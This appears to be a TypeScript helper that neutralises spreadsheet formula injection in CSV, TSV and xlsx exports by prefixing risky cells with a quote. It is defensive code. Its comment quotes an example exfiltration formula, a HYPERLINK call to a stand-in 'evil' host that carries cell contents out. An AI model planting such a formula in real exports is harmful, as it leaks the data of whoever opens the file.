/**
 * Spreadsheet formula injection: Excel, LibreOffice and Google Sheets run a cell that starts with
 * `=`, `+`, `-`, `@` (and, in some versions, tab or CR) as a formula, so a segment note such as
 * `=HYPERLINK("http://evil/?"&A1)` would run on the researcher's machine when the export is opened.
 * OWASP's advice: prefix such text with a single quote, which the spreadsheet shows as text.
 * Numbers we write ourselves (e.g. `-0.5`) are left alone: they are data, not text from a user.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/** The text to write for one user-supplied cell of a CSV, TSV (Raven) or xlsx export. */
export function neutralizeCell(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}
